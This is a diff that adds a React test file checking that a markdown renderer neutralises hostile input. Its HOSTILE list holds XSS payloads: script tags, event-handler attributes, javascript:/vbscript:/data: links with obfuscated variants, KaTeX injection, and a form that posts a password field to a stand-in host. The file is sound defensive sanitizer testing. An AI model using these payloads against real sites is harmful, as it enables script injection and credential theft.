@@ -1,0 +1,74 @@
+import { render } from '@testing-library/react';
+import '../testing/without-texts';
+import { MarkdownBody } from './markdown-body';
+
+const html = (source: string) => render(<MarkdownBody source={source} />).container;
+
+const HOSTILE = [
+  '<script>alert(1)</script>',
+  '<img src=x onerror=alert(1)>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<svg onload=alert(1)>',
+  '<form action="//evil.example"><input name=password></form>',
+  '<style>*{display:none}</style>',
+  '[x](javascript:alert(1))',
+  '[x](JaVaScRiPt:alert(1))',
+  '[x](&#106;avascript:alert(1))',
+  '[x](data:text/html,<script>alert(1)</script>)',
+  '[x](vbscript:msgbox)',
+  '![x](javascript:alert(1))',
+  '<javascript:alert(1)>',
+  '$\\href{javascript:alert(1)}{x}$',
+  '$\\htmlStyle{background:url(//evil.example)}{x}$',
+  '$\\includegraphics{//evil.example/x.png}$',
+  '```"><img src=x onerror=alert(1)>\ncode\n```',
+  '[^<img src=x onerror=alert(1)>]: note',
+];
+
+describe('markdown', () => {
+  it.each(HOSTILE)('renders %s harmless', (source) => {
+    const view = html(source);
+    expect(view.querySelector('script, iframe, form, style, object, embed, base, meta')).toBeNull();
+    for (const element of view.querySelectorAll('*')) {
+      for (const { name, value } of element.attributes) {
+        expect(name).not.toMatch(/^on/i);
+        expect(value).not.toMatch(/^\s*(?:javascript|vbscript|data):/i);
+        expect(value).not.toMatch(/url\(/i);
+      }
+    }
+    expect(view.querySelector('img[src]')).toBeNull();
+  });
+
+  it('opens foreign links apart and tells them nothing', () => {
+    const link = html('[out](https://example.org/)').querySelector('a');
+    expect(link?.target).toBe('_blank');
+    expect(link?.rel).toContain('noopener noreferrer');
+  });
+
+  it('offers a foreign picture as a link instead of fetching it', () => {
+    const view = html('![cat](https://example.org/cat.png)');
+    expect(view.querySelector('img')).toBeNull();
+    expect(view.querySelector('a')?.href).toBe('https://example.org/cat.png');
+  });
+
+  it('keeps tables, task lists and code with a copy button', () => {
+    const view = html('| a | b |\n|---|---|\n| 1 | 2 |\n\n- [x] done\n\n```python\nprint(1)\n```');
+    expect(view.querySelectorAll('td')).toHaveLength(2);
+    expect(view.querySelector<HTMLInputElement>('input[type=checkbox]')?.disabled).toBe(true);
+    expect(view.querySelector('pre code .hljs-built_in')?.textContent).toBe('print');
+    expect(view.querySelector('.vx-markdown-code button')).not.toBeNull();
+  });
+
+  it('keeps what KaTeX draws, roots and fractions included', () => {
+    const view = html('$$\n\\frac{a}{\\sqrt{b}} \\color{red}{c}\n$$');
+    expect(view.querySelector('math mfrac')).not.toBeNull();
+    expect(view.querySelector('.katex-html svg path')?.getAttribute('d')).toBeTruthy();
+    expect(view.querySelector<HTMLElement>('.katex-html .strut')?.style.height).toMatch(/em$/);
+  });
+
+  it('links a footnote to its note', () => {
+    const view = html('text[^1]\n\n[^1]: the note');
+    const target = view.querySelector('sup a')?.getAttribute('href')?.slice(1) ?? '';
+    expect(view.querySelector(`li[id="${target}"]`)).not.toBeNull();
+  });
+});
